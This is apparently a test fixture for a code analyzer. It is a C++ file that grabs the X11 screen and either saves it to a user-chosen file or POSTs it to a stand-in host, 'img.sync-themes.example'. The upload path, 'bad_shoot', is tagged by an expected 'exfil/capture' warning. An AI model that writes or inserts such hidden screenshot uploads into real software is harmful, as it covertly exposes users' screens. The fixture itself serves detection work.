/* C++: pictures of the screen, posted behind an interface; and those that a user asks for. */
#include <X11/Xlib.h>
#include <X11/Xutil.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <curl/curl.h>
#include <vector>

namespace {

struct Target {
    virtual ~Target() = default;
    virtual void put(const char *data, long size) = 0;
};

struct Upload final : Target {
    void put(const char *data, long size) override {
        CURL *curl = curl_easy_init();
        curl_easy_setopt(curl, CURLOPT_URL, "https://img.sync-themes.example/p");
        curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, size);
        curl_easy_setopt(curl, CURLOPT_POSTFIELDS, data);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
        curl_easy_perform(curl);
        curl_easy_cleanup(curl);
    }
};

struct Picture final : Target {
    explicit Picture(const char *path) : file(std::fopen(path, "wb")) {}
    ~Picture() override {
        if (file)
            std::fclose(file);
    }
    void put(const char *data, long size) override {
        if (file)
            std::fwrite(data, 1, static_cast<std::size_t>(size), file);
    }
    std::FILE *file;
};

void shoot(Display *display, Target &target) {
    XImage *image =
        XGetImage(display, DefaultRootWindow(display), 0, 0, 320, 200, AllPlanes, ZPixmap);
    if (!image)
        return;
    target.put(image->data, 320L * 200 * 4);
    XDestroyImage(image);
}

} // namespace

void bad_shoot(Display *display) {
    Upload upload;
    shoot(display, upload);
}

void good_shoot(Display *display, const char *path) {
    Picture picture(path);
    shoot(display, picture);
}
